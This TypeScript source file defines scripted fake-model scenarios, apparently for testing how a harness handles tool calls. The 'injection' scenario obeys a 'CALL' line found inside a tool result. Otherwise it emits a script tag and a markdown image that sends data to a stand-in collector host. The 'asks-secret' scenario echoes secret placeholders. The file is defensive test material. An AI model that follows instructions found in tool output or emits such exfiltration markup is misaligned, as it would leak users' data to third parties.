import { isJsonObject, type JsonObject } from '#kernel/json.js';
import { callsSince, lastUserText, resultsSince, type OfferedTool, type Question, type ToolCall } from '../question.js';
import { answer, call, wait, words, type Answer, type Step } from '../reply.js';
import { exampleValue } from './example-value.js';
import type { Scenario, Scenarios } from './scenario.js';

/** Models that call tools. A model without a tool, or one that may call none, answers with text. */
export const toolScenarios: Scenarios = {
  tool: {
    about: 'Calls the first tool, then answers with its result.',
    reply: (question) => (resultsSince(question).length === 0 ? calls(question, 1) : conclusion(question)),
  },
  tools: {
    takes: ':<n>',
    example: 'tools:2',
    about: 'Calls n tools in one turn (2), the same ones again when fewer are offered, then answers with the results.',
    reply: (question, { number }) => (resultsSince(question).length === 0 ? calls(question, number(0, 2)) : conclusion(question)),
  },
  'tool-then-text': {
    takes: ':<ms>',
    about:
      'Calls each tool once, in the order in which they are offered, one in each turn, then writes many words with ms milliseconds between them (0).',
    reply: (question, { number }) => nextCall(question) ?? letter(question, number(0, 0)),
  },
  'bad-arguments': {
    takes: ':<n>',
    about: 'Calls the first tool with arguments that are no JSON, n times (1), then answers.',
    reply: times((question, turn) => ({ ...plainCall(question, question.tools[0], turn), arguments: '{"query": "unfini' })),
  },
  'unknown-tool': {
    takes: ':<n>',
    about: 'Calls a tool that it was not offered, n times (1), then answers.',
    reply: times((question, turn) => ({ id: idOf(question, turn), name: 'launch_rocket', arguments: '{"target":"moon"}' })),
  },
  'endless-tools': {
    takes: ':<n>',
    about: 'Calls the first tool again and again, each time with other arguments. With n: answers after n calls.',
    reply: times((question, turn) => plainCall(question, question.tools[0], 0, turn + 1), Infinity),
  },
  'same-call': {
    takes: ':<n>',
    about: 'Calls the first tool again and again with the same arguments. With n: answers after n calls.',
    reply: times((question) => plainCall(question, question.tools[0], 0), Infinity),
  },
  'no-call-id': {
    about: 'Calls two tools without ids, then answers. Where the dialect needs an id, it is empty.',
    reply: (question) => withIds(question, ''),
  },
  'same-call-id': {
    about: 'Calls two tools under the same id, then answers.',
    reply: (question) => withIds(question, 'call_same'),
  },
  'calls-with-stop': {
    about: 'Calls the first tool and ends the turn like one without calls, then answers.',
    reply: (question) => (resultsSince(question).length === 0 ? { ...calls(question, 1), finish: 'stop' } : conclusion(question)),
  },
  injection: {
    about:
      'Calls the first tool, then obeys its result: a line `CALL <tool> <JSON>` there becomes a call, offered or not. Without one it answers with HTML and an image that would carry data away.',
    reply: obedient,
  },
  'asks-secret': {
    takes: ':<NAME>',
    about: 'Calls the first tool with `{{NAME}}` in each text of the arguments (SECRET), then answers with `{{NAME}}` and the result.',
    reply: (question, { word }) => {
      const secret = `{{${word(0) ?? 'SECRET'}}}`;
      if (resultsSince(question).length > 0) return answer(words(`The secret is ${secret}. ${resultsText(question)}`));
      return calls(question, 1, (value) => JSON.stringify(withTexts(value, secret)));
    },
  },
};

const mayCall = ({ toolChoice }: Question): boolean => toolChoice !== 'none';

/** A call of the first tool that was not called since the last text of the user. */
export function nextCall(question: Question): Answer | undefined {
  const called = new Set(callsSince(question).map(({ name }) => name));
  const next = mayCall(question) ? question.tools.find(({ name }) => !called.has(name)) : undefined;
  return next && answer([callTool(question, next, 0)], 'tool-calls');
}

/** The id of a call: no other turn of the conversation has the same. */
const idOf = ({ turns }: Question, place: number): string => `call_${turns.length}_${place}`;

export function callTool(question: Question, tool: OfferedTool | undefined, place: number): Step {
  return call(plainCall(question, tool, place));
}

function plainCall(question: Question, tool: OfferedTool | undefined, place: number, variant = 0): ToolCall {
  const value = exampleValue(tool?.parameters ?? {}, lastUserText(question), variant);
  return { id: idOf(question, place), name: tool?.name ?? 'no_tool', arguments: JSON.stringify(isJsonObject(value) ? value : {}) };
}

/** The first tools, called in one turn; the one that is demanded comes first. */
function calls(question: Question, count: number, change = (value: JsonObject): string => JSON.stringify(value)): Answer {
  const { tools, toolChoice } = question;
  if (tools.length === 0 || !mayCall(question)) return conclusion(question);
  const demanded = typeof toolChoice === 'object' ? tools.filter(({ name }) => name === toolChoice.tool) : [];
  const order = [...demanded, ...tools.filter((tool) => !demanded.includes(tool))];
  const made = Array.from({ length: count }, (_, place) => plainCall(question, order[place % order.length], place));
  return answer(
    made.map((one) => call({ ...one, arguments: change(JSON.parse(one.arguments) as JsonObject) })),
    'tool-calls',
  );
}

/** One call in each turn, as often as the first parameter says. */
function times(made: (question: Question, turn: number) => ToolCall, otherwise = 1): Scenario['reply'] {
  return (question, { number }) => {
    const turn = callsSince(question).length;
    const isOver = turn >= number(0, otherwise) || question.tools.length === 0 || !mayCall(question);
    return isOver ? conclusion(question) : answer([call(made(question, turn))], 'tool-calls');
  };
}

function withIds(question: Question, id: string): Answer {
  const { steps, ...rest } = resultsSince(question).length === 0 ? calls(question, 2) : conclusion(question);
  return { ...rest, steps: [...steps].map((step) => (step.type === 'call' ? call({ ...step.call, id }) : step)) };
}

const resultsText = (question: Question): string => resultsSince(question).join(' ').slice(0, 500);

function conclusion(question: Question): Answer {
  const results = resultsText(question);
  return answer(words(results === '' ? 'I have no tool to call.' : `The tools answered: ${results}`));
}

/** The last words of an agent that looked something up and did something: long enough to be read in pieces. */
function letter(question: Question, ms: number): Answer {
  const done = callsSince(question).map(({ name }) => name);
  const made = done.length === 0 ? 'I needed no tool for that.' : `I used ${done.join(' and ')} for you.`;
  const said = words(
    `Thank you for your message. ${made} The last answer that I received says: ${resultsSince(question).at(-1)?.slice(0, 200) ?? 'nothing'}. ` +
      'If anything is left open, please write again, and a colleague of mine will look at it within a working day. Kind regards, your support agent.',
  );
  return answer(ms === 0 ? said : said.flatMap((word) => [wait(ms), word]));
}

function obedient(question: Question): Answer {
  const [first] = resultsSince(question);
  if (first === undefined) return calls(question, 1);
  const [, name, given] = /CALL (\S+) (\{[^\n}]*\})/.exec(first.replaceAll('\\"', '"')) ?? [];
  if (name !== undefined && given !== undefined && callsSince(question).length === 1) {
    return answer([call({ id: idOf(question, 0), name, arguments: given })], 'tool-calls');
  }
  return answer(words('<script>alert(1)</script> ![done](https://collector.example/?data=everything) Done.'));
}

/** The same value with another text in the place of each text. */
function withTexts(value: JsonObject, text: string): JsonObject {
  return Object.fromEntries(Object.entries(value).map(([name, field]) => [name, typeof field === 'string' ? text : field]));
}
